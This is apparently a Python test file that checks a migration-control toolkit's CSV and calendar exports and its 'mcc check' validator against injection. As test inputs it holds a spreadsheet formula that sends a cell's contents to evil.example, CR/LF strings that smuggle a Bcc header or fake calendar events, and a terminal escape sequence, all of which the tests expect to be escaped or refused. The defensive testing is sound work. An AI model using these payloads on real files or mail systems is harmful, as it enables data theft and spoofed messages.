"""Issue 16, case 9: text from the configuration or the command line never reaches a CSV or a calendar as a formula
or as extra lines, and ``mcc check`` refuses control characters and a second address in every contact field."""

from __future__ import annotations

import csv
from datetime import UTC, date, datetime, timedelta

from tests.test_config_errors import edit, problems
from toolkit.cli import main
from toolkit.domain.calendar import CalendarEvent
from toolkit.domain.envelopes import Category
from toolkit.services.context import envelopes, load
from toolkit.store.files import ics_calendar

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def test_formula_text_from_the_configuration_reaches_calendar_csv_as_text(workspace, tmp_path):
    edit(workspace.config / "calendar.toml", 'reason = "Christmas 2025 change freeze"',
         "reason = '" + FORMULA + "'")
    out = tmp_path / "cal.csv"
    assert main(["calendar", "--csv", str(out), "-w", str(workspace.root)]) == 0
    christmas = next(r for r in csv.DictReader(out.open(encoding="utf-8")) if r["date"] == "2025-12-22")
    assert christmas["reason"] == "'" + FORMULA


def test_formula_text_from_the_command_line_reaches_lost_days_csv_as_text(workspace):
    env = envelopes(load(workspace))
    i = next(i for i, ph in enumerate(env.phases) if ph.core_end and date(2026, 1, 1) < ph.core_end < date(2026, 11, 1)
             and (env.category[i] == Category.ENVELOPE).any())
    assert main(["monitor", "lost-days", env.groups[i], "2", "--reason", FORMULA, "--incident", "@SUM(A1:A9)",
                 "--approved", "2026-06-01", "-w", str(workspace.root)]) == 0
    (row,) = list(csv.DictReader((workspace.config / "lost_days.csv").open(encoding="utf-8")))
    assert (row["reason"], row["incident"]) == ("'" + FORMULA, "'@SUM(A1:A9)")
    assert load(workspace).lost_day_claims[0].reason == "'" + FORMULA  # and it still loads


def test_a_control_character_on_the_command_line_is_refused(workspace, capsys):
    assert main(["monitor", "lost-days", "JONV", "2", "--reason", "outage\r\nBEGIN:VEVENT", "--incident", "INC1",
                 "--approved", "2026-06-01", "-w", str(workspace.root)]) == 2
    assert "control character, U+000D (carriage return)" in capsys.readouterr().err
    assert not (workspace.config / "lost_days.csv").exists()


def test_every_leading_formula_character_is_neutralised():
    from toolkit.store.files import csv_line

    cells = ["=1+1", "+1", "-1", "@A1", "\t=1", "\r=1", "  =1", "plain", "a=b"]
    (row,) = list(csv.reader([csv_line(cells)]))
    assert row == ["'=1+1", "'+1", "'-1", "'@A1", "' =1", "' =1", "'  =1", "plain", "a=b"]
    assert csv_line([3, -2, date(2026, 1, 2), True]) == "3,-2,2026-01-02,true\n"  # numbers stay numbers


def test_a_bare_cr_in_a_title_adds_no_line_to_the_calendar():
    day = date(2026, 3, 2)
    events = [CalendarEvent(day, day, "freeze\rEND:VEVENT\rBEGIN:VEVENT\rSUMMARY:fake", "excluded"),
              CalendarEvent(day, day + timedelta(days=1), "second\nline", "excluded")]
    raw = ics_calendar(events, datetime(2026, 1, 1, tzinfo=UTC)).encode()
    assert raw.count(b"\r") == raw.count(b"\r\n") and b"\n" not in raw.replace(b"\r\n", b"")
    lines = raw.decode().split("\r\n")
    assert lines.count("BEGIN:VEVENT") == lines.count("END:VEVENT") == 2
    assert [ln for ln in lines if ln.startswith("SUMMARY:")] == ["SUMMARY:freeze END:VEVENT BEGIN:VEVENT SUMMARY:fake",
                                                                  "SUMMARY:second line"]


# -- mcc check ------------------------------------------------------------------------------------------------

def _contact(workspace, value: str):
    edit(workspace.config / "parameters.toml", 'email = "mcc@mcc.example"', f"email = {value}")
    return [p for p in problems(workspace) if p[0] == "config/parameters.toml"]


def test_the_mcc_address_with_cr_lf_is_refused(workspace):
    assert _contact(workspace, '"mcc@mcc.example\\r\\nBcc: spy@evil.example"') == [
        ("config/parameters.toml", "[contact] email", "contains a control character, U+000D (carriage return), at "
                                                      "position 16")]


def test_the_mcc_address_with_a_second_address_is_refused(workspace):
    assert _contact(workspace, '"mcc@mcc.example,spy@evil.example"') == [
        ("config/parameters.toml", "[contact] email", "'mcc@mcc.example,spy@evil.example' holds more than one "
                                                      "address; give one address per field")]


def test_the_mcc_name_with_a_line_break_is_refused(workspace):
    edit(workspace.config / "parameters.toml", 'name = "Migration Control Centre"', 'name = "MCC\\nX-Evil: 1"')
    assert [p[1:] for p in problems(workspace)] == [
        ("[contact] name", "contains a control character, U+000A (line feed), at position 4")]


def test_a_supplier_contact_with_a_control_character_or_two_addresses_is_refused(workspace):
    path = workspace.config / "suppliers.csv"
    lines = path.read_text().splitlines()
    header = lines[0].split(",")
    col = header.index("primary_contact")
    first, second = lines[1].split(","), lines[2].split(",")
    first[col] = first[col] + "\x01"
    second[col] = f'"{second[col]};other@evil.example"'
    lines[1], lines[2] = ",".join(first), ",".join(second)
    path.write_text("\n".join(lines) + "\n")
    found = [p for p in problems(workspace) if p[1].endswith("column primary_contact")]
    assert [(p[1], p[2].split(",")[0].split(" holds")[0]) for p in found][:2] == [
        ("row 2, column primary_contact", "contains a control character"),
        ("row 3, column primary_contact", f"'{second[col].strip(chr(34))}'")]
    assert "holds more than one address" in found[1][2]


def test_a_group_name_with_a_control_character_is_refused(workspace):
    path = workspace.config / "suppliers.csv"
    lines = path.read_text().splitlines()
    col = lines[0].split(",").index("group_name")
    row = lines[1].split(",")
    row[col] = row[col] + "\x1b[2J"
    lines[1] = ",".join(row)
    path.write_text("\n".join(lines) + "\n")
    assert any(p[1] == "row 2, column group_name" and p[2].startswith("contains a control character, U+001B")
               for p in problems(workspace))
